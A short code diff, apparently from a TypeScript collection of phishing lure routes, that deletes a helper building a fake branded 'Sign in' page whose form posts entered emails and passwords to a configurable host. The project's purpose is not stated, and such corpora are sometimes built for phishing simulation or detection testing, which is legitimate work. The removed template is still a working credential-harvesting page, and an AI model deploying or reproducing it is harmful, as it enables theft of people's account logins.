@@ -2,9 +2,6 @@ import type { Entry } from '../entry.js';
 import { htmlRoute, redirectRoute } from '../entry.js';
 import { doc, imgRoute, metaHop, scriptHop, b64 } from '../parts/r-kit.js';
 
-const genericKit = (host: string, path: string, brand: string, lang = 'en') => htmlRoute(doc({ lang, title: `${brand} - Sign in` , css: `body{font-family:Segoe UI,Arial,sans-serif;background:#f3f3f3}.b{width:400px;margin:80px auto;background:#fff;padding:34px;box-shadow:0 1px 5px rgba(0,0,0,.2)}input{width:100%;padding:10px;margin:6px 0;border:1px solid #aaa}button{width:100%;padding:10px;background:#0067b8;color:#fff;border:0}` },
-`<div class="b"><h2>${brand}</h2><p>Sign in with your work or school account to access the shared file.</p><form method="post" action="https://${host}${path}post.php"><input type="email" name="login" placeholder="Email" required><input type="password" name="passwd" placeholder="Password" required><button>Sign in</button></form></div>`));
-
 export const entries: Entry[] = [
 {
   id: 'r-lure-voicemail-autoredirect',
